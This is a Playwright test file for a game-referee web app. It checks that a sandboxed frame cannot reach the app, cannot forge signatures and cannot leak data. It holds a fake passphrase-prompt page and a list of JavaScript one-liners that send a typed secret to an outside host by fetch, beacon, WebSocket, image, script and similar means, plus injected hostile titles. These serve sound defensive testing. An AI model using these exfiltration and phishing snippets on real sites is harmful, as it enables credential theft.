"""Attacks on the app: from the frame in it, by a game file, by a second tab, on a full device."""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

import pytest
from playwright.sync_api import Error, Frame, expect

from referee.phone.door import call
from referee.table import chain
from referee.table.signing import signed_text
from tests.cli.hostile import Forger, hand_of
from tests.cli.world import text_of
from tests.page.test_hostile import PAYLOAD
from tests.phone.host import Host
from tests.phone.phone import HOME, Phone
from tests.phone.test_app import joined, new_table
from tests.table.tables import REFEREE, Table, key_of

DIALOG = """() => {
    document.body.innerHTML = `<form id="ask" style="position: fixed; inset: 0; background: white">
        <h2>Open the key</h2><label>Passphrase of the key<input type="password" name="secret">
        </label><label>Or the key itself<textarea name="key"></textarea></label>
        <button>Open the key</button></form>`;
}"""
"""A page that looks like the app's own question for a key."""
WAYS = {
    "a form": "(url, said) => { const one = document.querySelector('#ask'); one.action = url;"
    " one.submit(); }",
    "a form in a new window": "(url, said) => { const one = document.querySelector('#ask');"
    " one.action = url; one.target = '_blank'; one.submit(); }",
    "fetch": "(url, said) => { fetch(url + '?' + said, { mode: 'no-cors' }).catch(() => 1); }",
    "a beacon": "(url, said) => { navigator.sendBeacon(url, said); }",
    "a socket": "(url, said) => { new WebSocket(url.replace('http', 'ws') + '?' + said); }",
    "events": "(url, said) => { new EventSource(url + '?' + said); }",
    "a picture": "(url, said) => { new Image().src = url + '?' + said; }",
    "a style": "(url, said) => { document.body.style.backgroundImage = `url(${url}?${said})`; }",
    "a script": "(url, said) => { const one = document.createElement('script');"
    " one.src = url + '?' + said; document.body.append(one); }",
    "a link that is fetched ahead": "(url, said) => { const one = document.createElement('link');"
    " one.rel = 'prefetch'; one.href = url + '?' + said; document.head.append(one); }",
    "a frame": "(url, said) => { const one = document.createElement('iframe');"
    " one.src = url + '?' + said; document.body.append(one); }",
    "a window": "(url, said) => { open(url + '?' + said); }",
    "the app's place": "(url, said) => { top.location.href = url + '?' + said; }",
    "a download": "(url, said) => { const one = document.createElement('a');"
    " one.href = url + '?' + said; one.download = 'x'; document.body.append(one); one.click(); }",
    "its own place": "(url, said) => { location.href = url + '?' + said; }",
}
"""Things that a script in the frame could do with what somebody has typed there."""


@pytest.fixture
def seated(phone: Phone) -> Frame:
    """The frame of a table at which the phone is asked."""
    phone.keep_key(key_of("ana"))
    return opened(phone)


def opened(phone: Phone) -> Frame:
    phone.open(text_of("dealt").encode())
    phone.frame.locator("main [data-choice]").first.wait_for()
    return phone.page.frames[-1]


@pytest.fixture
def elsewhere(site: Path, tmp_path: Path) -> Iterator[tuple[Host, str]]:
    """A host of somebody's who would like to hear something."""
    host = Host(site, tmp_path)
    with host.serving() as address:
        yield host, address


def test_a_page_in_its_frame_reaches_nothing(phone: Phone, seated: Frame) -> None:
    inside = seated
    assert inside.evaluate("window.origin") == "null"
    for attempt in (
        "parent.document.title",
        "top.localStorage.length",
        "localStorage.length",
        "parent.indexedDB.open('sanjuan-ref')",
        "navigator.serviceWorker.register('sw.js')",
    ):
        script = f"() => {{ try {{ {attempt}; return 'in'; }} catch {{ return 'out'; }} }}"
        assert inside.evaluate(script) == "out", attempt
    fetched = "url => fetch(url).then(() => 'in', () => 'out')"
    assert inside.evaluate(fetched, phone.address + "app.js") == "out"
    answers: list[str] = []
    phone.page.on("response", lambda one: answers.append(one.url))
    inside.evaluate(
        "url => { const one = new Image(); one.src = url; }", phone.address + "leak.png"
    )
    inside.evaluate(
        """url => { const one = document.createElement('iframe');
            one.src = url; document.body.append(one); }""",
        phone.address + "leak.html",
    )
    assert inside.evaluate("() => open('about:blank') === null")
    # Neither may it go somewhere itself, with a hand in the address.
    inside.evaluate("url => { location.href = url; }", phone.address + "leak?hand")
    phone.page.wait_for_timeout(300)
    assert answers == []


def test_forged_messages_sign_nothing(phone: Phone, seated: Frame) -> None:
    inside = seated
    good = {
        "answer": [["role", "builder"]],
        "plan": [],
        "keep": False,
        "withdraw": False,
        "begun": True,
    }
    phone.page.evaluate("data => postMessage(data, '*')", good)
    for data in (
        1,
        None,
        {"answer": "role builder", "plan": []},
        {"answer": None, "plan": "x"},
        {"sign": True, "play": "role builder", "answer": None, "plan": []},
    ):
        inside.evaluate("data => parent.postMessage(data, '*')", data)
    inside.evaluate("data => parent.postMessage(data, '*')", good | {"answer": [["<b>", "x"]]})
    expect(phone.page.locator(".agree .wrong")).to_contain_text("what is no answer")
    inside.evaluate("data => parent.postMessage(data, '*')", good | {"answer": [["role", "king"]]})
    expect(phone.page.locator(".agree .wrong")).not_to_contain_text("what is no answer")
    assert phone.page.locator("#sign").count() == 0
    # What is offered is what the program understands, whatever the page shows.
    inside.evaluate("data => parent.postMessage(data, '*')", good)
    expect(phone.page.locator("#canonical")).to_have_text("role builder")
    phone.page.click("#sign")
    assert "play role builder\n" in phone.note()


def test_a_page_that_asks_for_the_key_can_tell_nobody(
    phone: Phone, seated: Frame, elsewhere: tuple[Host, str]
) -> None:
    host, url = elsewhere
    seated.evaluate(DIALOG)
    box = phone.frame.locator("[name=secret]")
    box.fill("sesame")
    for way in WAYS.values():
        if seated.url != "about:srcdoc" or seated.is_detached():
            # It went to where its policy does not let it, and shows an error of the browser's.
            seated = opened(phone)
            seated.evaluate(DIALOG)
        with suppress(Error):
            seated.evaluate(
                f"given => {{ try {{ ({way})(...given); }} catch {{}} }}", [url, "sesame"]
            )
        phone.page.wait_for_timeout(100)
    phone.page.wait_for_timeout(500)
    assert host.asked == []
    phone.requests = [one for one in phone.requests if not one.startswith(url)]
    # Outside the frame all is as it was.
    assert phone.page.url == phone.address
    expect(phone.page.locator("#heading")).to_have_text("A test")
    assert len(phone.context.pages) == 1


def test_what_is_typed_into_a_page_is_neither_signed_nor_kept(phone: Phone, seated: Frame) -> None:
    words = {"plan": [], "keep": False, "withdraw": False, "begun": True}
    for said in ("open-sesame", "Open Sesame!", key_of("ana").openssh().decode()):
        for answer in ([["role", said]], [[said, ""]]):
            data = words | {"answer": answer}
            seated.evaluate("data => parent.postMessage(data, '*')", data)
            phone.page.wait_for_selector(".agree .wrong")
        data = words | {"answer": None, "begun": False, "plan": [said]}
        seated.evaluate("data => parent.postMessage(data, '*')", data)
        phone.page.wait_for_selector(".agree .wrong")
    assert phone.page.locator("#sign").count() == 0
    notes = "() => import('./store.js').then(({ all }) => all('notes'))"
    assert phone.page.evaluate(notes) == []
    phone.home()
    phone.page.click("#keys")
    warning = "have opened a key file yourself; never on the table."
    expect(phone.page.locator("#view")).to_contain_text(warning)


def test_a_flood_of_messages_leaves_the_app_usable(phone: Phone, seated: Frame) -> None:
    good = {"answer": [["role", "builder"]], "plan": [], "keep": False, "withdraw": False}
    seated.evaluate(
        """data => { for (let at = 0; at < 5000; at += 1) parent.postMessage(data, '*'); }""",
        good | {"begun": True},
    )
    expect(phone.page.locator("#canonical")).to_have_text("role builder")
    phone.page.click("text=Notes you signed")
    expect(phone.page.locator("#heading")).to_have_text("Notes you signed")


def test_a_hostile_title_is_text_wherever_it_is_shown(phone: Phone, workplace: Path) -> None:
    title = PAYLOAD[:200]
    file = Table(2, "hostile").file
    file.title = title
    file.head = chain.heads(file)[-1]
    dialogs: list[str] = []
    phone.page.on("dialog", lambda one: dialogs.append(one.message))
    phone.open(signed_text(file, REFEREE).encode())
    page = phone.page
    assert page.inner_text("#heading") == title
    assert page.title() == f"{title} · sanjuan-ref"
    phone.frame.locator("h1").first.wait_for()
    assert page.frames[-1].evaluate("document.querySelectorAll('img, script[src]').length") == 0
    page.click("text=Take a seat")
    page.click("#make-key")
    page.wait_for_selector("#save-key")
    assert title in page.inner_text("#key")
    phone.home()
    assert title in page.inner_text("#games")
    assert page.locator("#games img, #games script").count() == 0
    assert dialogs == []


@pytest.mark.parametrize(
    "where", ["seats.0.name", "table.seats.0.name", "log.0.play", "log.0.by", "game.module"]
)
def test_hostile_names_and_lines_are_refused(where: str) -> None:
    text = Forger(text_of("dealt")).changed(where, PAYLOAD)
    for lang in ("en", "de"):
        found = json.loads(call("look", json.dumps({"text": text, "lang": lang})))["error"]
        assert found["reason"] != "bug"
        assert found["message"]


def test_a_hostile_hand_is_refused(phone: Phone) -> None:
    phone.keep_key(key_of("ana"))
    phone.give(hand_of(Forger(text_of("dealt")), PAYLOAD, "ana").encode())
    phone.page.wait_for_selector("[role=alert]")
    assert "<" not in phone.page.inner_text("[role=alert]")
    phone.home()
    assert phone.page.locator("[data-game]").count() == 0


def test_one_tab_at_a_time(phones: Callable[..., Phone]) -> None:
    phone = phones()
    second = phone.tab("text=open in another tab")
    second.click("text=Use it here")
    second.wait_for_selector(HOME)
    expect(phone.page.locator("#view")).to_contain_text("goes on in another tab")
    # Nothing can be signed, opened or made there any more.
    assert phone.page.locator("#view button, #view input").count() == 0
    assert phone.page.is_hidden("#back")


@pytest.mark.parametrize("at_once", [True, False])
def test_nothing_is_signed_or_shown_as_kept_on_a_full_device(
    at_once: bool, phone: Phone, workplace: Path
) -> None:
    page = phone.page
    joined(workplace, phone)
    page.evaluate(FULL, at_once)
    phone.compose(random.Random(1))
    page.click("#sign")
    expect(page.locator("#status")).to_contain_text("no room left")
    assert page.locator("#note").count() == 0
    other = workplace / "other"
    other.mkdir()
    phone.give(new_table(other).read_bytes())
    expect(page.locator("#status")).to_contain_text("no room left")
    assert page.locator("iframe").count() == 0
    page.click("#keys")
    page.click("text=Make a key")
    expect(page.locator("#status")).to_contain_text("no room left")
    assert page.locator("details").count() == 1
    # With room again the same taps do it.
    page.evaluate(FULL, None)
    page.click("text=Make a key")
    expect(page.locator("details")).to_have_count(2)


FULL = """throws => {
    const before = window.put ??= IDBObjectStore.prototype.put;
    IDBObjectStore.prototype.put = function (...given) {
        if (throws === null) return before.apply(this, given);
        if (throws) throw new DOMException("", "QuotaExceededError");
        const request = before.apply(this, given);
        this.transaction.abort();
        return request;
    };
}"""
"""No room, as some browsers say it at once and others when it comes to the disk; or room again."""
